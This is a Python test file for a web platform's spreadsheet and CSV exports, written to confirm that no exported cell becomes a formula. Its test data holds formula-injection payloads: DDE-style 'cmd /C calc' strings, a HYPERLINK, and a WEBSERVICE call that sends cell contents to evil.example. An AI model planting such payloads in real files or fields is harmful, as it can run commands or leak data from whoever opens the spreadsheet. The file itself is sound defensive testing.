"""No export runs what people typed: values that spreadsheets read as formulas (=, +, -, @, a tab)
are planted in every text a user can type that reaches a download — listing titles, summaries,
keywords and institutions, organisation and broker names, deal titles and parties, payment notes
— and every .xlsx and .csv the platform writes is opened: not one cell is a formula, and the
planted texts are there, as typed, as text."""

from __future__ import annotations

import csv
import html
import io
import re
import uuid
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from werkzeug.security import generate_password_hash

from tests.conftest import PASSWORD
from webapp.accounts.models import Organisation, OrgKind, Role, User
from webapp.deals.models import ContractType, Deal, Payment
from webapp.listings.models import ListingStatus

PLANTS = {
    "title": '=HYPERLINK("http://evil.example","点我")',
    "summary": "+cmd|' /C calc'!A0",
    "keyword": "@SUM(1+1)",
    "institution": "-2+3+cmd|' /C calc'!A0",
    "deal": "=3+3",
    "party": "=1+1 天津某公司",
    "provider": "\t=2+2",
    "agency": "@津南技术转移中心",
    "broker": "+张经纪",
    "payment": '=WEBSERVICE("http://evil.example/?"&A1)',
}


@pytest.fixture
def planted(query):
    def build(session):
        token = uuid.uuid4().hex[:6]
        agency = Organisation(kind=OrgKind.AGENCY, name=PLANTS["agency"] + token)
        session.add(agency)
        session.flush()
        broker = User(
            email=f"broker-{token}@test.jiebang.cn",
            name=PLANTS["broker"],
            role=Role.BROKER,
            password_hash=generate_password_hash(PASSWORD),
            organisation_id=agency.id,
        )
        session.add(broker)
        session.flush()
        from webapp.achievements.models import Achievement
        from webapp.needs.models import Need

        published = {"status": ListingStatus.PUBLISHED, "published_at": datetime(2019, 5, 1, tzinfo=UTC)}
        session.add(
            Achievement(
                title=PLANTS["title"],
                summary=PLANTS["summary"],
                keywords=[PLANTS["keyword"]],
                institution_name=PLANTS["institution"],
                **published,
            )
        )
        session.add(
            Need(title=PLANTS["title"], description=PLANTS["summary"], keywords=[PLANTS["keyword"]], **published)
        )
        deal = Deal(
            title=PLANTS["deal"],
            contract_type=ContractType.DEVELOPMENT,
            contract_value=1_000_000,
            signed_on=date(2019, 3, 1),
            registered_on=date(2019, 3, 5),
            registration_no=f"R{token}",
            agency_id=agency.id,
            broker_id=broker.id,
            need_party=PLANTS["party"],
            provider_party=PLANTS["provider"],
            received_total=300_000,
        )
        session.add(deal)
        session.flush()
        session.add(Payment(deal_id=deal.id, received_on=date(2019, 3, 20), amount=300_000, evidence=PLANTS["payment"]))
        session.commit()
        return {"agency": agency.id, "broker_email": broker.email}

    return query(build)


def _cells_of(body: bytes, kind: str) -> list[tuple[str, object]]:
    """(type, value) of every cell: "f" for a formula, "s" for text, "n" for a number…"""
    if kind == "csv":
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
        return [("csv", value) for row in rows for value in row]
    book = load_workbook(io.BytesIO(body))
    return [(cell.data_type, cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_export_holds_a_formula_and_every_planted_text_is_there_as_typed(planted, make_user, make_client):
    admin = make_client()
    admin.login(make_user("admin").email)
    broker = make_client()
    broker.login(planted["broker_email"])
    downloads = {
        "achievements.xlsx": (admin, "/achievements/export.xlsx"),
        "achievements.csv": (admin, "/achievements/export.csv"),
        "needs.xlsx": (admin, "/needs/export.xlsx"),
        "needs.csv": (admin, "/needs/export.csv"),
        "deals.xlsx": (admin, "/deals/export.xlsx"),
        "quarterly.xlsx": (admin, "/dashboard/quarterly.xlsx?period=2019-Q1"),
        "evidence.xlsx": (admin, f"/dashboard/agency/{planted['agency']}/evidence.xlsx?period=2019"),
        "broker-dashboard.xlsx": (broker, "/dashboard/me/export?period=2019"),
        "broker-deals.xlsx": (broker, "/deals/export.xlsx"),
    }
    # Every table of the administrator's dashboard, by its own export links.
    page = admin.get("/dashboard/?period=2019").get_data(as_text=True)
    links = re.findall(r'href="([^"]+)" data-export="([^"]+)"', page)
    assert len(links) >= 5, "the dashboard's export links were not found"
    for href, table in links:
        downloads[f"dashboard-{table}.xlsx"] = (admin, html.unescape(href))
    found: dict[str, set[str]] = {}
    formulas, unsafe_csv = [], []
    for name, (client, url) in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, f"{name}: {response.status_code}"
        kind = "csv" if name.endswith(".csv") else "xlsx"
        for data_type, value in _cells_of(response.get_data(), kind):
            if data_type == "f":
                formulas.append(f"{name}: {value!r}")
            if not isinstance(value, str):
                continue
            if kind == "csv" and value[:1] in ("=", "+", "@", "\t", "\r", "-") and not value[1:2].isdigit():
                unsafe_csv.append(f"{name}: {value!r}")
            for plant, text in PLANTS.items():
                if text in value:
                    found.setdefault(plant, set()).add(name)
    assert not formulas, "formulas in the exports:\n" + "\n".join(formulas)
    assert not unsafe_csv, "CSV cells a spreadsheet would run:\n" + "\n".join(unsafe_csv)
    assert set(found) == set(PLANTS), f"planted texts missing from every export: {set(PLANTS) - set(found)}"
    assert {"deals.xlsx", "evidence.xlsx"} <= found["deal"]
    assert any(name.startswith("dashboard-") for name in found["agency"]), found["agency"]
    assert "evidence.xlsx" in found["payment"]
    assert {"achievements.xlsx", "achievements.csv"} <= found["title"]
